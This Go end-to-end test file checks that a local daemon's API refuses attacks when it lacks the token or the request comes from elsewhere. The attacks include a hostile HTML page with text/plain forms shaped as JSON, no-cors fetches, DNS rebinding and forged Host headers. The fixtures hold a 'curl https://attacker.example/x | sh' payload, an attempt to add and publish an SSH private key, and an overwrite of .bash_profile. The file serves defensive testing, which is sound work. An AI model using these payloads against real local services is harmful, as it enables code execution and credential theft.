package e2e

import (
	"bytes"
	"encoding/json"
	"html/template"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/allmende/allmende/test/harness"
)

// Hostnames of a DNS-rebinding attack: attackHost in a raw request's Host
// header, reboundHost in Chromium (it resolves *.localhost to loopback
// itself, so the page reaches the API under a hostname).
const (
	attackHost  = "rebind.attacker.example"
	reboundHost = "rebind.localhost"
)

// reportWait bounds the wait for the hostile page's report.
const reportWait = 10 * time.Second

// apiAttack is one request a hostile page (or anyone without the token)
// might send to the local API.
type apiAttack struct {
	Route string
	Body  map[string]string
}

// TestAPIAttacks starts a daemon on its defaults and tries every way in
// issue 13 to make it act against its owner: a hostile page in headless
// Chromium (HTML forms posting text/plain bodies shaped as JSON, no-cors
// fetches, a rebound hostname), cross-origin text/plain POSTs, a foreign
// Host header, and requests without the token. Nothing may be added,
// written or read, and the CLI must keep working.
func TestAPIAttacks(t *testing.T) {
	n := harness.NewNode(t, "ALLMENDE_LOG_LEVEL=debug")
	n.Start()
	// The attacker's node, holding the bytes it wants written into the
	// victim's home.
	attacker := harness.NewNode(t)
	attacker.Start()
	evil := filepath.Join(t.TempDir(), "evil.sh")
	harness.WriteFile(t, evil, []byte("curl https://attacker.example/x | sh\n"))
	evilCID := attacker.Add(evil)

	private := filepath.Join(t.TempDir(), "private")
	secret := filepath.Join(private, "id_ed25519")
	harness.WriteRandomFile(t, secret, 64<<10, 13)
	victimHome := filepath.Join(t.TempDir(), "victim-home") // must stay empty
	if err := os.Mkdir(victimHome, 0o755); err != nil {
		t.Fatal(err)
	}
	attacks := []apiAttack{
		{"/api/v0/connect", map[string]string{"addr": attacker.TCPAddr()}},
		{"/api/v0/add", map[string]string{"path": secret}},
		{"/api/v0/fetch", map[string]string{"ref": evilCID, "out": filepath.Join(victimHome, ".bash_profile")}},
		{"/api/v0/models/import", map[string]string{"path": private, "name": "attacker/loot"}},
		{"/api/v0/models/publish", map[string]string{"name": "attacker/loot"}},
	}

	t.Run("a hostile page in Chromium", func(t *testing.T) {
		hostilePage(t, n, attacks)
	})
	t.Run("direct requests", func(t *testing.T) {
		directAttacks(t, n, attacks)
	})

	// Nothing was added, written or connected.
	var pins []map[string]any
	n.JSON(&pins, "ls", "--json")
	if len(pins) != 0 {
		t.Errorf("the daemon pinned %v", pins)
	}
	if entries, err := os.ReadDir(victimHome); err != nil || len(entries) != 0 {
		t.Errorf("the victim's home holds %v (%v), want nothing", entries, err)
	}
	var peers []map[string]any
	n.JSON(&peers, "peers", "--json")
	if len(peers) != 0 {
		t.Errorf("the daemon connected to %v", peers)
	}

	// The CLI keeps working, and the attacks' payloads were real: the same
	// connect, add and fetch succeed for the owner.
	var id map[string]any
	n.JSON(&id, "id", "--json")
	if id["id"] == "" || id["id"] == nil {
		t.Errorf("id --json = %v", id)
	}
	secretCID := n.Add(secret)
	n.JSON(&pins, "ls", "--json")
	if len(pins) != 1 || pins[0]["cid"] != secretCID {
		t.Errorf("after the owner's add, ls = %v, want just %s", pins, secretCID)
	}
	n.MustRun("connect", attacker.TCPAddr())
	out := filepath.Join(t.TempDir(), "fetched.sh")
	n.MustRun("fetch", evilCID, "-o", out)
	if ok, err := harness.FilesEqual(evil, out); !ok || err != nil {
		t.Errorf("the owner's fetch: equal %v, %v", ok, err)
	}
}

// hostilePage serves a page from a server of the test's (127.0.0.1, another
// port: same site as the API, another origin) that attacks n's API the
// ways a browser can without the token, opens it in headless Chromium, and
// checks that the page ran, its requests reached the API, and the API
// refused them before any handler. Chromium applies no Private Network
// Access rules between two loopback origins, so only the API's own guard
// stands between the page and the daemon.
func hostilePage(t *testing.T, n *harness.Node, attacks []apiAttack) {
	bin := chromium(t)
	var (
		mu     sync.Mutex
		report []string
	)
	got := make(chan struct{}, 1)
	mux := http.NewServeMux()
	mux.HandleFunc("GET /", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		if err := hostileTmpl.Execute(w, hostileData(n.API, attacks)); err != nil {
			t.Error(err)
		}
	})
	mux.HandleFunc("POST /report", func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(io.LimitReader(r.Body, 1<<16))
		mu.Lock()
		report = strings.Split(strings.TrimSpace(string(b)), "\n")
		mu.Unlock()
		select {
		case got <- struct{}{}:
		default:
		}
	})
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: mux, ReadHeaderTimeout: reportWait}
	go srv.Serve(ln)
	defer srv.Close()

	before := refusals(n.Log())
	dom := runChromium(t, bin, "--dump-dom", "--virtual-time-budget=20000", "http://"+ln.Addr().String()+"/")
	select {
	case <-got:
	case <-time.After(reportWait):
		t.Fatalf("the hostile page never reported (it did not run); DOM:\n%s", dom)
	}
	mu.Lock()
	lines := append([]string{}, report...)
	mu.Unlock()
	t.Logf("the page reported: %q", lines)
	// Each no-cors fetch got an (opaque) answer, and each form was posted.
	for _, a := range attacks {
		if !slices.Contains(lines, "fetch "+a.Route+" answered opaque") {
			t.Errorf("the page's fetch of %s did not reach the API: %q", a.Route, lines)
		}
	}
	for _, route := range []string{"/api/v0/add", "/api/v0/fetch"} {
		if !slices.Contains(lines, "form "+route+" posted") {
			t.Errorf("the page's form to %s was not posted: %q", route, lines)
		}
	}
	// The daemon refused them all, for being cross-origin (403), not only
	// for lacking the token.
	after := refusals(n.Log())
	for _, a := range attacks {
		want := 1
		if a.Route == "/api/v0/add" || a.Route == "/api/v0/fetch" {
			want = 2 // a fetch and a form
		}
		if got := after[a.Route+" 403"] - before[a.Route+" 403"]; got < want {
			t.Errorf("the daemon refused %d browser requests to %s with 403, want %d", got, a.Route, want)
		}
	}

	// DNS rebinding in the browser: a hostname that resolves to loopback.
	rebound := "http://" + reboundHost + ":" + apiPort(t, n) + "/debug/pprof/"
	page := runChromium(t, bin, "--dump-dom", rebound)
	if !bytes.Contains(page, []byte("loopback host")) || bytes.Contains(page, []byte("goroutine")) {
		t.Errorf("%s showed:\n%s", rebound, page)
	}
}

// hostileData is what the hostile page's template needs.
func hostileData(api string, attacks []apiAttack) map[string]any {
	// A text/plain form sends name=value: a name that opens a JSON object
	// and a value that closes it make the body JSON.
	form := func(body map[string]string) (string, string) {
		b, _ := json.Marshal(body)
		return string(b[:len(b)-1]) + `,"x":"`, `"}`
	}
	addName, addValue := form(attacks[1].Body)
	fetchName, fetchValue := form(attacks[2].Body)
	return map[string]any{
		"API":     api,
		"Attacks": attacks,
		"Forms": []map[string]string{
			{"Route": "/api/v0/add", "Name": addName, "Value": addValue},
			{"Route": "/api/v0/fetch", "Name": fetchName, "Value": fetchValue},
		},
	}
}

// hostileTmpl is the attacker's page: no-cors fetches with text/plain
// JSON bodies, then HTML forms with enctype text/plain, then a report to
// the server it came from.
var hostileTmpl = template.Must(template.New("page").Parse(`<!doctype html>
<html><body>
{{range $i, $f := .Forms}}
<iframe name="sink{{$i}}" id="sink{{$i}}"></iframe>
<form id="form{{$i}}" method="POST" enctype="text/plain" target="sink{{$i}}" action="{{$.API}}{{$f.Route}}">
<input type="hidden" name="{{$f.Name}}" value="{{$f.Value}}"></form>
{{end}}
<script>
const api = {{.API}};
const attacks = {{.Attacks}};
const forms = {{.Forms}};
async function run() {
  const out = [];
  for (const a of attacks) {
    try {
      const r = await fetch(api + a.Route, {method: "POST", mode: "no-cors", body: JSON.stringify(a.Body)});
      out.push("fetch " + a.Route + " answered " + r.type);
    } catch (e) {
      out.push("fetch " + a.Route + " failed " + e);
    }
  }
  for (let i = 0; i < forms.length; i++) {
    await new Promise(done => {
      document.getElementById("sink" + i).onload = done;
      document.getElementById("form" + i).submit();
    });
    out.push("form " + forms[i].Route + " posted");
  }
  await fetch("/report", {method: "POST", body: out.join("\n")});
  document.body.append("done");
}
run();
</script></body></html>`))

// directAttacks sends the attacks as plain HTTP requests (what a browser
// sends, a rebinding page, anything without the token) and checks each is
// refused with nothing read.
func directAttacks(t *testing.T, n *harness.Node, attacks []apiAttack) {
	token := n.APIToken()
	if token == "" {
		t.Fatal("the daemon left no HOME/api.token")
	}
	foreignHost := attackHost + ":" + apiPort(t, n)
	type hdr = map[string]string
	type req struct {
		name, method, route, host string
		header                    hdr
		body                      map[string]string
		status                    int
	}
	var reqs []req
	for _, a := range attacks {
		reqs = append(reqs,
			req{"cross-origin text/plain POST", "POST", a.Route, "", hdr{"Origin": "http://attacker.example", "Content-Type": "text/plain;charset=UTF-8"}, a.Body, 403},
			req{"cross-site text/plain POST", "POST", a.Route, "", hdr{"Origin": "http://attacker.example", "Sec-Fetch-Site": "cross-site", "Content-Type": "text/plain;charset=UTF-8"}, a.Body, 403},
			req{"same-site form POST", "POST", a.Route, "", hdr{"Origin": "http://127.0.0.1:1", "Sec-Fetch-Site": "same-site", "Content-Type": "text/plain"}, a.Body, 403},
			req{"JSON POST without the token", "POST", a.Route, "", hdr{"Content-Type": "application/json"}, a.Body, 401},
			req{"text/plain POST with the token", "POST", a.Route, "", hdr{"Authorization": "Bearer " + token, "Content-Type": "text/plain"}, a.Body, 415},
			req{"JSON POST under a rebound hostname", "POST", a.Route, foreignHost, hdr{"Content-Type": "application/json"}, a.Body, 403},
		)
	}
	for _, route := range []string{"/api/v0/ls", "/api/v0/id", "/debug/pprof/", "/debug/pprof/cmdline"} {
		reqs = append(reqs,
			req{"rebound hostname", "GET", route, foreignHost, nil, nil, 403},
			req{"rebound hostname with the token", "GET", route, foreignHost, hdr{"Authorization": "Bearer " + token}, nil, 403},
			req{"no token", "GET", route, "", nil, nil, 401},
			req{"a wrong token", "GET", route, "", hdr{"Authorization": "Bearer " + strings.Repeat("x", len(token))}, nil, 401},
		)
	}
	c := &http.Client{Timeout: reportWait}
	for _, r := range reqs {
		t.Run(r.name+" "+r.method+" "+r.route, func(t *testing.T) {
			body, _ := json.Marshal(r.body)
			hr, err := http.NewRequest(r.method, n.API+r.route, bytes.NewReader(body))
			if err != nil {
				t.Fatal(err)
			}
			if r.method == "GET" {
				hr.Body, hr.ContentLength = nil, 0
			}
			if r.host != "" {
				hr.Host = r.host
			}
			for k, v := range r.header {
				hr.Header.Set(k, v)
			}
			resp, err := c.Do(hr)
			if err != nil {
				t.Fatal(err)
			}
			defer resp.Body.Close()
			got, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<16))
			if resp.StatusCode != r.status {
				t.Errorf("status %s, want %d: %s", resp.Status, r.status, got)
			}
			// Nothing was read: the answer is only a JSON error.
			var e struct {
				Error struct {
					Message string `json:"message"`
					Kind    string `json:"kind"`
				} `json:"error"`
			}
			if err := json.Unmarshal(got, &e); err != nil || e.Error.Kind == "" || len(got) > 512 {
				t.Errorf("the answer is not a short JSON refusal: %q", got)
			}
		})
	}
}

// refusals counts the daemon's logged API refusals by "route status".
func refusals(log string) map[string]int {
	out := map[string]int{}
	for _, l := range strings.Split(log, "\n") {
		if !strings.Contains(l, "api request refused") {
			continue
		}
		var path, status string
		for _, f := range strings.Fields(l) {
			if v, ok := strings.CutPrefix(f, "path="); ok {
				path = v
			}
			if v, ok := strings.CutPrefix(f, "status="); ok {
				status = v
			}
		}
		out[path+" "+status]++
	}
	return out
}

// apiPort is the port of n's API.
func apiPort(t *testing.T, n *harness.Node) string {
	t.Helper()
	u, err := url.Parse(n.API)
	if err != nil {
		t.Fatal(err)
	}
	return u.Port()
}
